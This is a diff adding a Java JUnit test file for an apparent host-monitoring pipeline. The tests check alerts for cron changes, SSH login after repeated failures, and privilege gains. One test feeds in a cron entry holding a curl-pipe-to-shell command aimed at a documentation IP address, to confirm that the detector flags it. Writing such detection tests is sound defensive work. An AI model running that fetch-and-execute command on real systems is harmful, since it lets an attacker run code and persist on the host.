@@ -1,0 +1,253 @@
+package bzh.vigie.collector.detect;
+
+import static bzh.vigie.event.Event.Change.ADDED;
+import static bzh.vigie.event.Event.Change.CHANGED;
+import static bzh.vigie.event.Event.Change.NEWLY_VISIBLE;
+import static bzh.vigie.event.Event.Change.PRESENT;
+import static bzh.vigie.event.Event.Change.REMOVED;
+import static bzh.vigie.event.Item.Shipped.AS_PACKAGED;
+import static bzh.vigie.event.Item.Shipped.UNOWNED;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import bzh.vigie.collector.store.AgentId;
+import bzh.vigie.collector.store.Alerts.Alert;
+import bzh.vigie.collector.store.Alerts.Severity;
+import bzh.vigie.event.Account;
+import bzh.vigie.event.Event;
+import bzh.vigie.event.Event.LogonAction;
+import bzh.vigie.event.Event.LogonType;
+import bzh.vigie.event.Item;
+import bzh.vigie.event.Observed;
+import bzh.vigie.event.ReasonCode;
+import bzh.vigie.event.SourceCount;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Optional;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+final class PipelineTest {
+    private static final String CRON = "linux.cron.system";
+
+    private Path folder;
+    private Line line;
+    private AgentId pc;
+
+    @BeforeEach
+    void open(@TempDir Path temporary) {
+        folder = temporary;
+        line = new Line(temporary);
+        pc = line.enrol(1, Line.QUIMPER);
+    }
+
+    @AfterEach
+    void close() {
+        line.close();
+    }
+
+    private void enrolled() throws IOException, InterruptedException {
+        line.send(
+                pc,
+                line.seen(PRESENT, Line.cron("e2scrub_all", "test -x /sbin/e2scrub_all_cron", AS_PACKAGED, Item.Trait.INLINE_SCRIPT)),
+                line.seen(PRESENT, Line.cron("backup", "/usr/local/sbin/backup", UNOWNED)),
+                line.listed(CRON));
+    }
+
+    @Test
+    void anOrdinaryHostIsEnrolledInSilence() throws Exception {
+        enrolled();
+        assertEquals(List.of(), line.rules());
+    }
+
+    @Test
+    void whatWasThereBeforeIsJudgedAndSaysSo() throws Exception {
+        line.send(
+                pc,
+                line.seen(PRESENT, Line.cron("x", "curl http://203.0.113.9/a|sh", UNOWNED, Item.Trait.NETWORK_TOOL, Item.Trait.INLINE_SCRIPT)),
+                line.listed(CRON));
+        Alert alert = line.alerts().getFirst();
+        assertEquals("vigie-linux-network-one-liner", alert.rule());
+        assertEquals(Severity.HIGH, alert.severity());
+        assertEquals("present", alert.evidence().get("change"));
+        assertTrue(alert.evidence().getOrDefault("also", "").contains("vigie-linux-network-tool-present"));
+        assertTrue(alert.techniques().contains("T1053.003"));
+    }
+
+    @Test
+    void whatAppearsChangesAndGoesLaterIsToldUnlessAPackageBroughtIt() throws Exception {
+        enrolled();
+        line.send(pc, line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)));
+        line.send(pc, line.seen(CHANGED, Line.cron("new", "/opt/y", UNOWNED)));
+        line.send(pc, line.seen(REMOVED, Line.cron("new", "/opt/y", UNOWNED)));
+        line.send(pc, line.seen(ADDED, Line.cron("sysstat", "/usr/lib/sysstat/sa1", AS_PACKAGED)));
+        line.send(pc, line.seen(REMOVED, Line.cron("sysstat", "/usr/lib/sysstat/sa1", AS_PACKAGED)));
+        assertEquals(List.of("vigie-item-added", "vigie-item-changed", "vigie-item-removed"), line.rules());
+        Alert changed = line.alerts().get(1);
+        assertEquals("/opt/x", changed.evidence().get("before.value"));
+        assertEquals("1", changed.evidence().get("prevalence"));
+    }
+
+    @Test
+    void whatOnlyBecameVisibleIsNeverReportedAsAdded() throws Exception {
+        enrolled();
+        line.send(pc, line.seen(NEWLY_VISIBLE, Line.cron("old", "/opt/x", UNOWNED)));
+        assertEquals(List.of(), line.rules());
+    }
+
+    @Test
+    void aListingAfterALossTellsWhatCameAndWent() throws Exception {
+        enrolled();
+        line.send(
+                pc,
+                line.seen(PRESENT, Line.cron("e2scrub_all", "test -x /sbin/e2scrub_all_cron", AS_PACKAGED, Item.Trait.INLINE_SCRIPT)),
+                line.seen(PRESENT, Line.cron("came", "/opt/x", UNOWNED)),
+                line.listed(CRON));
+        assertEquals(List.of("vigie-item-added", "vigie-item-removed"), line.rules());
+        assertEquals("backup", line.alerts().get(1).evidence().get("name"));
+    }
+
+    @Test
+    void theSameOnManyHostsOfACommuneIsOneLine() throws Exception {
+        enrolled();
+        AgentId other = line.enrol(2, Line.QUIMPER);
+        line.send(pc, line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)));
+        line.send(other, line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)));
+        assertEquals(1, line.alerts().size());
+        assertEquals(2, line.alerts().getFirst().count());
+    }
+
+    @Test
+    void aBatchThatIsSentAgainCountsOnce() throws Exception {
+        enrolled();
+        line.send(pc, line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)));
+        line.feed.add(line.feed.records().getLast());
+        line.feed.add(line.feed.records().getFirst());
+        Line.drain(line.pipeline);
+        assertEquals(1, line.alerts().size());
+        assertEquals(1, line.alerts().getFirst().count());
+    }
+
+    @Test
+    void aBatchThatCannotBeDecodedStopsNothing() throws Exception {
+        line.put(pc, 1, "garbage".getBytes(StandardCharsets.UTF_8));
+        line.put(pc, 2, new byte[0]);
+        Line.drain(line.pipeline);
+        line.put(pc, 3, bzh.vigie.wire.EventCodec.encode(List.of(line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)))));
+        Line.drain(line.pipeline);
+        assertEquals(List.of("vigie-batch-malformed", "vigie-item-added"), line.rules());
+        assertEquals(2, line.alerts().getFirst().count());
+        assertEquals(
+                2,
+                line.store.read(session -> session.coverage()
+                                .losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1)))
+                        .size());
+        try (var files = Files.list(folder.resolve("quarantine"))) {
+            assertEquals(2, files.count());
+        }
+    }
+
+    @Test
+    void lostEventsAreAnAlertAndLowerCoverage() throws Exception {
+        line.send(
+                pc,
+                new Event.Loss(
+                        line.at(0),
+                        "agent.spool",
+                        3,
+                        1,
+                        9,
+                        List.of(new SourceCount("linux.process.connector", 120, 1, 2)),
+                        ReasonCode.OVERLOADED,
+                        ""));
+        assertEquals("120", line.alerts().getFirst().evidence().get("events"));
+        assertEquals(
+                1,
+                line.store.read(session -> session.coverage()
+                                .losses(pc, Line.START.minusSeconds(1), Line.START.plusSeconds(1)))
+                        .size());
+    }
+
+    private Event logon(LogonAction action, String account, String address, long second) {
+        return new Event.Logon(
+                line.at(second),
+                "linux.auth-log",
+                action,
+                LogonType.SSH,
+                new Account("", account),
+                Optional.empty(),
+                address,
+                "",
+                "password",
+                "",
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                "");
+    }
+
+    @Test
+    void failuresThenASuccessFromTheSameAddressIsAnAlert() throws Exception {
+        for (int i = 0; i < 5; i++) {
+            line.send(pc, logon(LogonAction.FAILED, "root", "203.0.113.9", i));
+        }
+        line.send(pc, logon(LogonAction.LOGON, "root", "198.51.100.1", 6));
+        assertEquals(List.of(), line.rules());
+        line.send(pc, logon(LogonAction.LOGON, "root", "203.0.113.9", 7));
+        assertEquals(List.of("vigie-logon-after-failures"), line.rules());
+        assertEquals("5", line.alerts().getFirst().evidence().get("failures"));
+    }
+
+    @Test
+    void aTypingErrorOrTwoAndOldFailuresAreNone() throws Exception {
+        for (int i = 0; i < 3; i++) {
+            line.send(pc, logon(LogonAction.FAILED, "lea", "192.0.2.7", i));
+        }
+        line.send(pc, logon(LogonAction.LOGON, "lea", "192.0.2.7", 5));
+        for (int i = 0; i < 9; i++) {
+            line.send(pc, logon(LogonAction.FAILED, "yann", "192.0.2.8", i));
+        }
+        line.send(pc, logon(LogonAction.LOGON, "yann", "192.0.2.8", 5_000));
+        assertEquals(List.of(), line.rules());
+    }
+
+    @Test
+    void guessingManyAccountsFromOneAddressCountsTogether() throws Exception {
+        for (int i = 0; i < 12; i++) {
+            line.send(pc, logon(LogonAction.FAILED, "user" + i, "203.0.113.9", i));
+        }
+        line.send(pc, logon(LogonAction.LOGON, "lea", "203.0.113.9", 13));
+        assertEquals(List.of("vigie-logon-after-failures"), line.rules());
+    }
+
+    @Test
+    void aRightGainedIsAnAlertAndAPasswordSetIsNot() throws Exception {
+        Account lea = new Account("1001", "lea");
+        line.send(
+                pc,
+                new Event.AccountChange(
+                        line.at(0), "linux.auth-log", Event.AccountAction.PASSWORD_SET, lea, Optional.empty(), Optional.empty(), ""),
+                new Event.AccountChange(
+                        line.at(0),
+                        "linux.auth-log",
+                        Event.AccountAction.ADDED_TO_GROUP,
+                        lea,
+                        Optional.empty(),
+                        Optional.of(new Account("27", "sudo")),
+                        ""));
+        assertEquals(List.of("vigie-right-gained"), line.rules());
+    }
+
+    @Test
+    void theHistoryHasEveryEventOnce() throws Exception {
+        enrolled();
+        line.send(pc, line.seen(ADDED, Line.cron("new", "/opt/x", UNOWNED)));
+        assertEquals(4, line.history.events().size());
+        String id = pc + "/0123456789abcdef0123456789abcdef/1/2/0";
+        assertEquals("added", line.history.events().get(id).fields().get("change"));
+        assertEquals(2, line.history.position("ingest"));
+    }
+}
